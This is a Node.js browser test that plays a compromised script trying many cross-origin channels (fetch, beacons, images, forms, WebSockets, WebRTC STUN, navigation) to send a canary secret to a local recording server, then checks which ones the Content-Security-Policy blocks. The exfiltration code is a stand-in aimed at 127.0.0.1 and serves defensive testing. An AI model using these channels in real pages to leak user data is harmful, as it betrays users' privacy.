// The privacy canary: script running in the demo's pages (as a compromised or careless dependency would) tries every
// channel we know of to send a canary string to another origin, a second server on another port of 127.0.0.1 that
// records what reaches it (HTTP, WebSocket upgrades, and UDP for WebRTC's STUN). The test states exactly what the
// policy (scripts/serve.mjs) stops and what it cannot: each channel is asserted either blocked or, where no browser
// policy can close it, reaching the other origin, so a claim in docs/privacy.md that stops being true fails here.
//
//   node --test tests/e2e/canary.test.mjs        (needs `bash scripts/build.sh` first)
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { createSocket } from 'node:dgram';
import { serverAndBrowser } from './harness.mjs';

const env = serverAndBrowser();
const hits = []; // { channel, method, how }
let elsewhere;
let udp;
let udpPackets = 0;

before(async () => {
  elsewhere = createServer((req, res) => {
    const channel = new URL(req.url, 'http://x').pathname.split('/')[2] ?? '?';
    hits.push({ channel, method: req.method, how: 'http' });
    res.writeHead(200, { 'Content-Type': 'text/plain', 'Access-Control-Allow-Origin': '*' });
    res.end('ok');
  });
  elsewhere.on('upgrade', (req, socket) => {
    hits.push({ channel: new URL(req.url, 'http://x').pathname.split('/')[2] ?? '?', method: 'GET', how: 'upgrade' });
    socket.destroy();
  });
  await new Promise((resolve) => elsewhere.listen(0, '127.0.0.1', resolve));
  udp = createSocket('udp4');
  udp.on('message', () => { udpPackets += 1; });
  await new Promise((resolve) => udp.bind(0, '127.0.0.1', resolve));
});
after(async () => {
  await new Promise((resolve) => elsewhere.close(resolve));
  udp.close();
});

const seen = (channel) => hits.filter((h) => h.channel === channel);
const wait = (ms) => new Promise((resolve) => setTimeout(resolve, ms));

// Every cross-origin channel a page's script can open without leaving the page. Each carries the canary in its URL.
const BLOCKED = ['fetch', 'fetch-no-cors', 'xhr', 'beacon', 'img', 'css-image', 'script', 'module', 'style', 'font',
  'media', 'iframe', 'object', 'worker', 'websocket', 'eventsource', 'prefetch', 'preload', 'form', 'popup',
  'popup-link', 'ping', 'svg-image'];

async function tryEverything(page, base, stun) {
  return page.evaluate(async ({ base, stun }) => {
    const url = (channel) => `${base}canary/${channel}/CANARY-SECRET`;
    const out = {};
    const attempt = async (name, fn) => {
      try {
        out[name] = String(await fn());
      } catch (err) {
        out[name] = `threw ${err.name}`;
      }
    };
    const add = (tag, attrs) => {
      const node = document.createElement(tag);
      for (const [k, v] of Object.entries(attrs)) node.setAttribute(k, v);
      document.body.append(node);
      return node;
    };
    await attempt('fetch', () => fetch(url('fetch'), { method: 'POST', body: 'CANARY-SECRET' }));
    await attempt('fetch-no-cors', () => fetch(url('fetch-no-cors'), { mode: 'no-cors' }));
    await attempt('xhr', () => new Promise((resolve, reject) => {
      const x = new XMLHttpRequest();
      x.open('GET', url('xhr'));
      x.onload = resolve;
      x.onerror = () => reject(new Error('xhr error'));
      x.send();
    }));
    await attempt('beacon', () => navigator.sendBeacon(url('beacon'), 'CANARY-SECRET'));
    await attempt('img', () => { new Image().src = url('img'); });
    await attempt('css-image', () => { add('div', {}).style.backgroundImage = `url("${url('css-image')}")`; });
    await attempt('script', () => { add('script', { src: url('script') }); });
    await attempt('module', () => import(url('module')));
    await attempt('style', () => { add('link', { rel: 'stylesheet', href: url('style') }); });
    await attempt('font', () => new FontFace('canary', `url("${url('font')}")`).load());
    await attempt('media', () => { add('audio', { src: url('media'), preload: 'auto' }); });
    await attempt('iframe', () => { add('iframe', { src: url('iframe') }); });
    await attempt('object', () => { add('object', { data: url('object') }); });
    await attempt('worker', () => new Worker(url('worker')));
    await attempt('websocket', () => new WebSocket(url('websocket').replace(/^http/, 'ws')));
    await attempt('eventsource', () => new EventSource(url('eventsource')));
    await attempt('prefetch', () => { add('link', { rel: 'prefetch', href: url('prefetch') }); });
    await attempt('preload', () => { add('link', { rel: 'preload', as: 'fetch', href: url('preload') }); });
    await attempt('form', () => {
      const form = add('form', { method: 'POST', action: url('form'), target: '_blank' });
      const input = document.createElement('input');
      input.name = 'secret';
      input.value = 'CANARY-SECRET';
      form.append(input);
      form.submit();
    });
    await attempt('popup', () => window.open(url('popup')));
    await attempt('popup-link', () => add('a', { href: url('popup-link'), target: '_blank' }).click());
    await attempt('ping', () => add('a', { href: '#pinged', ping: url('ping') }).click());
    await attempt('svg-image', () => {
      const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
      const image = document.createElementNS('http://www.w3.org/2000/svg', 'image');
      image.setAttribute('href', url('svg-image'));
      svg.append(image);
      document.body.append(svg);
    });
    // Strings that would become HTML or script: Trusted Types with no policy refuse them all.
    await attempt('innerHTML', () => { document.body.innerHTML = `<img src="${url('innerHTML')}">`; });
    await attempt('insertAdjacentHTML', () => document.body.insertAdjacentHTML('beforeend', '<b>x</b>'));
    await attempt('document.write', () => document.write('<p>x</p>'));
    await attempt('script.text', () => { document.createElement('script').textContent = 'void 0'; });
    await attempt('createPolicy', () => trustedTypes.createPolicy('canary', { createHTML: (s) => s }));
    await attempt('eval', () => eval('1 + 1')); // eslint-disable-line no-eval
    await attempt('new Function', () => new Function('return 1')());
    // Same origin: the policy allows it (it is the page's own server); the demo server refuses any POST.
    await attempt('same-origin-post', async () => (await fetch('/canary/same-origin', { method: 'POST',
      body: 'CANARY-SECRET' })).status);
    // WebRTC: ICE gathering sends a STUN binding request to the given server over UDP.
    await attempt('webrtc', async () => {
      const pc = new RTCPeerConnection({ iceServers: [{ urls: `stun:${stun}` }] });
      pc.createDataChannel('canary');
      await pc.setLocalDescription(await pc.createOffer());
      await new Promise((resolve) => setTimeout(resolve, 1500));
      pc.close();
      return 'gathered';
    });
    return out;
  }, { base, stun });
}

describe('privacy canary: what the Content-Security-Policy stops, and what it cannot', () => {
  for (const path of ['', 'preferences.html', 'email.html']) {
    test(`${path || 'the store'}: no cross-origin channel, no popup, no HTML from strings`, async () => {
      const context = await env.browser.newContext();
      const page = await context.newPage();
      const popups = [];
      context.on('page', (p) => popups.push(p.url()));
      try {
        hits.length = 0;
        udpPackets = 0;
        await page.goto(new URL(path, env.server.url).href);
        await page.locator('#error').waitFor({ state: 'attached' });
        const base = `http://127.0.0.1:${elsewhere.address().port}/`;
        const out = await tryEverything(page, base, `127.0.0.1:${udp.address().port}`);
        await wait(1500);
        for (const channel of BLOCKED) assert.deepEqual(seen(channel), [], `${channel} reached the other origin`);
        assert.deepEqual(popups, [], 'no popup opened');
        assert.equal(out.popup, 'null', 'window.open returns null in the sandbox');
        for (const sink of ['innerHTML', 'insertAdjacentHTML', 'document.write', 'createPolicy']) {
          assert.equal(out[sink], 'threw TypeError', `${sink}: ${out[sink]}`);
        }
        for (const sink of ['eval', 'new Function']) assert.match(out[sink], /^threw (EvalError|TypeError)/, sink);
        assert.equal(await page.locator('img[src*="canary/innerHTML"]').count(), 0, 'no HTML parsed from a string');
        assert.ok(await page.locator('#error').count() === 1, 'the page was not rewritten');

        // What the policy cannot stop, asserted so that the documentation stays exactly true:
        assert.equal(out['same-origin-post'], '405', 'a same-origin POST is allowed by the policy; the server refuses it');
        // WebRTC: no directive Chromium knows closes it (see docs/privacy.md); the STUN request leaves the page.
        assert.equal(out.webrtc, 'gathered');
        assert.ok(udpPackets > 0, 'WebRTC reached the other origin (if this fails, Chromium now blocks it: update docs)');
        assert.deepEqual(hits.map((h) => h.channel).filter((c) => c !== 'navigate'), [], 'nothing else got through');
      } finally {
        await context.close();
      }
    });
  }

  test('top-level navigation to another origin is not stopped by any CSP (it carries what the URL carries)', async () => {
    const context = await env.browser.newContext();
    const page = await context.newPage();
    try {
      hits.length = 0;
      await page.goto(env.server.url);
      await page.locator('#error').waitFor({ state: 'attached' });
      const target = `http://127.0.0.1:${elsewhere.address().port}/canary/navigate/CANARY-SECRET`;
      await Promise.all([page.waitForURL(target), page.evaluate((t) => { location.href = t; }, target)]);
      assert.deepEqual(seen('navigate').map((h) => h.method), ['GET']);
    } finally {
      await context.close();
    }
  });
});
